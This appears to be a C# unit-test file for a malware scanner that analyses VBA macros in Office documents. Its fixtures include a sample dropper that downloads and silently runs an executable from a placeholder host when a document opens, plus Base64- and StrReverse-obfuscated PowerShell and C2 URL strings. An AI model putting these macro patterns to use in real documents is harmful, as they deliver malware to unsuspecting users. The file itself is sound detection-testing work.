using System.Text;
using Crible.Model;
using Crible.Scanners.Office.Vba;

namespace Crible.Tests.Scanners.Office.Vba;

public sealed class VbaScannerTests
{
    private const string Dropper = """
        Attribute VB_Name = "Module1"
        Public Sub Fetch()
            Dim u As String
            u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(58) & Chr(47) & Chr(47) & "dl.example.net/a.exe"
            URLDownloadToFile 0, u, Environ("TEMP") & "\a.exe", 0, 0
            Shell Environ("TEMP") & "\a.exe", vbHide
        End Sub
        """;

    private const string OpensAndCalls = """
        Attribute VB_Name = "ThisDocument"
        Private Sub Document_Open()
            Fetch
        End Sub
        """;

    [Fact]
    public void The_specification_examples_decompress_to_their_text()
    {
        var literals = VbaCompression.Decompress(Convert.FromHexString("0119B000616263646566676800696A6B6C6D6E6F7000717273747576" + "2E"), 1000);
        var run = VbaCompression.Decompress(Convert.FromHexString("0103B002614500"), 1000);

        Assert.Null(literals.Problem);
        Assert.Equal("abcdefghijklmnopqrstuv.", Encoding.ASCII.GetString(literals.Data));
        Assert.Null(run.Problem);
        Assert.Equal(new string('a', 73), Encoding.ASCII.GetString(run.Data));
    }

    [Fact]
    public void Decompression_stops_at_its_bound_and_says_so()
    {
        var compressed = OvbaCompressor.Compress(Encoding.ASCII.GetBytes(new string('x', 20_000)));

        var result = VbaCompression.Decompress(compressed, 5000);

        Assert.Equal(5000, result.Data.Length);
        Assert.True(result.LimitHit);
        Assert.Contains("more than 5000 bytes", result.Problem);
    }

    [Fact]
    public void What_the_test_compressor_writes_decompresses_to_the_same_text()
    {
        var text = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Range(0, 700).Select(i => $"Line {i % 37} of the module {i * 7919 % 1000}\r\n")));

        var result = VbaCompression.Decompress(OvbaCompressor.Compress(text), 1 << 20);

        Assert.Null(result.Problem);
        Assert.Equal(text, result.Data);
    }

    [Fact]
    public async Task A_document_whose_macro_downloads_and_runs_a_program_on_opening_is_malicious_with_the_lines_as_evidence()
    {
        var document = VbaTestProjects.WordDocument(new("ThisDocument", OpensAndCalls, IsDocument: true), new("Module1", Dropper));

        var report = await TestEngine.Default.AnalyseAsync(document, "invoice.doc");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var finding = Assert.Single(report.Nodes[0].Findings, f => f.Id == "vba-auto-exec-payload");
        Assert.Equal(Severity.Malicious, finding.Severity);
        Assert.Contains("ThisDocument:2: Private Sub Document_Open()", finding.Evidence);
        Assert.Contains("URLDownloadToFile", finding.Evidence);
        Assert.Contains("Shell Environ", finding.Evidence);
        Assert.Equal(["T1204.002", "T1059.005", "T1105"], finding.Attack);
        Assert.Contains(report.Nodes[0].Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://dl.example.net/a.exe");
        Assert.Contains(report.Nodes[0].Iocs, i => i.Kind == IndicatorKind.Domain && i.Value == "dl.example.net");
        var module = Assert.Single(report.Nodes, n => n.Name == "Macros/VBA/Module1.bas");
        Assert.Equal(Relation.Decoded, module.Relation);
        Assert.Equal("vbscript", module.Kind);
        Assert.Contains(report.Nodes, n => n.Name == "Macros/VBA/ThisDocument.cls");
    }

    [Fact]
    public async Task A_benign_macro_that_runs_on_opening_without_writing_or_executing_is_informational()
    {
        const string Opening = """
            Attribute VB_Name = "ThisDocument"
            Private Sub Document_Open()
                Dim totals As Object
                Set totals = CreateObject("Scripting.Dictionary")
                ActiveDocument.Fields.Update
                MsgBox "Fields updated"
            End Sub
            """;
        var project = VbaTestProjects.File(string.Empty, new VbaTestProjects.Module("ThisDocument", Opening, IsDocument: true));

        var report = await TestEngine.Default.AnalyseAsync(project, "vbaProject.bin");

        Assert.Equal(Verdict.Clean, report.Verdict);
        Assert.Equal(Severity.Info, Assert.Single(report.Nodes[0].Findings, f => f.Id == "vba-auto-exec").Severity);
        Assert.DoesNotContain(report.AllFindings, f => f.Finding.Severity != Severity.Info);
    }

    [Fact]
    public async Task A_macro_that_executes_only_when_the_user_asks_is_suspicious_not_malicious()
    {
        const string Tools = """
            Attribute VB_Name = "Tools"
            ' Opens the calculator when the user clicks the button.
            Public Sub OpenCalculator_Click()
                Shell "calc.exe", vbNormalFocus
            End Sub
            """;
        var project = VbaTestProjects.File(string.Empty, new VbaTestProjects.Module("Tools", Tools));

        var report = await TestEngine.Default.AnalyseAsync(project, "vbaProject.bin");

        Assert.Equal(Verdict.Clean, report.Verdict);
        Assert.DoesNotContain(report.AllFindings, f => f.Finding.Severity == Severity.Malicious);
        var execute = Assert.Single(report.Nodes[0].Findings, f => f.Id == "vba-execute");
        Assert.Equal(Severity.Suspicious, execute.Severity);
        Assert.Contains("Tools:4: Shell \"calc.exe\", vbNormalFocus", execute.Evidence);
    }

    [Fact]
    public async Task Strelka_vba_fixture_shows_its_auto_exec_procedures_and_the_urls_of_its_commands()
    {
        var report = await TestEngine.Default.AnalyseFileAsync(TestPaths.Corpus("strelka-fixtures", "test.vba"));

        var finding = Assert.Single(report.Nodes[0].Findings, f => f.Id == "vba-auto-exec-payload");
        Assert.Contains("AutoOpen", finding.Evidence);
        Assert.Contains("Document_Open", finding.Evidence);
        Assert.Contains("GetObject(\"winmgmts:", finding.Evidence);
        Assert.Contains("powershell", finding.Evidence);
        var urls = report.Nodes[0].Iocs.Where(i => i.Kind == IndicatorKind.Url).Select(i => i.Value).ToList();
        Assert.Contains("https://www.test.com/test.bat", urls);
        Assert.Contains("https://www.test.example.com", urls);
    }

    [Fact]
    public async Task Hidden_strings_are_decoded_from_StrReverse_and_Base64()
    {
        const string Source = """
            Attribute VB_Name = "Module1"
            Sub Build()
                a = StrReverse("moc.elpmaxe.2c//:sptth")
                b = "cG93ZXJzaGVsbCAtbm9wIGh0dHA6Ly9iNjQuZXhhbXBsZS5vcmcveA=="
            End Sub
            """;

        var report = await TestEngine.Default.AnalyseAsync(VbaTestProjects.File(string.Empty, new VbaTestProjects.Module("Module1", Source)), "vbaProject.bin");

        var decoded = Assert.Single(report.Nodes[0].Findings, f => f.Id == "vba-decoded-strings");
        Assert.Contains("StrReverse", decoded.Evidence);
        Assert.Contains("→ powershell -nop http://b64.example.org/x", decoded.Evidence);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "vba-obfuscation" && f.Severity == Severity.Suspicious);
        var urls = report.Nodes[0].Iocs.Where(i => i.Kind == IndicatorKind.Url).Select(i => i.Value).ToList();
        Assert.Contains("https://c2.example.com", urls);
        Assert.Contains("http://b64.example.org/x", urls);
    }

    [Fact]
    public async Task Compiled_code_that_calls_what_the_visible_source_hides_is_reported_as_stomping()
    {
        // Stands for the p-code of a stomped module: the identifiers and literals a compiler keeps.
        var pcode = new byte[600];
        Encoding.ASCII.GetBytes("\u0001\u0002AutoOpen\u0000\u0003WScript.Shell\u0000\u0004powershell -w hidden\u0000").CopyTo(pcode, 40);
        const string Innocent = """
            Attribute VB_Name = "Module1"
            Sub AutoOpen()
                MsgBox "Welcome"
            End Sub
            """;

        var report = await TestEngine.Default.AnalyseAsync(VbaTestProjects.File(string.Empty, new VbaTestProjects.Module("Module1", Innocent, pcode)), "vbaProject.bin");

        var stomping = Assert.Single(report.Nodes[0].Findings, f => f.Id == "vba-stomping");
        Assert.Equal(Severity.Malicious, stomping.Severity);
        Assert.Contains("WScript.Shell", stomping.Evidence);
        Assert.Contains("powershell", stomping.Evidence);
        Assert.Contains("T1564.007", stomping.Attack);
    }

    [Fact]
    public async Task Compiled_code_that_matches_its_source_is_not_stomping()
    {
        var pcode = new byte[600];
        Encoding.ASCII.GetBytes("\u0001AutoOpen\u0000\u0002Welcome\u0000").CopyTo(pcode, 40);
        const string Source = "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n    MsgBox \"Welcome\"\r\nEnd Sub\r\n";

        var report = await TestEngine.Default.AnalyseAsync(VbaTestProjects.File(string.Empty, new VbaTestProjects.Module("Module1", Source, pcode)), "vbaProject.bin");

        Assert.DoesNotContain(report.Nodes[0].Findings, f => f.Id == "vba-stomping");
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "vba-project");
    }

    [Fact]
    public async Task A_damaged_dir_stream_gives_an_incomplete_reason_not_a_crash()
    {
        var builder = new Crible.Scanners.Office.Ole.CompoundFileBuilder();
        builder.AddStream("VBA/dir", new byte[] { 0x01, 0x10, 0xB0, 0x00, 0x19, 0x00, 0xFF, 0xFF, 0x7F, 0x00 });
        builder.AddStream("VBA/Module1", OvbaCompressor.Compress(Encoding.ASCII.GetBytes(Dropper)));

        var report = await TestEngine.Default.AnalyseAsync(builder.ToArray(), "vbaProject.bin");

        Assert.Contains(report.Nodes[0].Incomplete, r => r.StartsWith("vba: VBA/dir", StringComparison.Ordinal));
        Assert.NotEqual(Verdict.Clean, report.Verdict);
    }
}
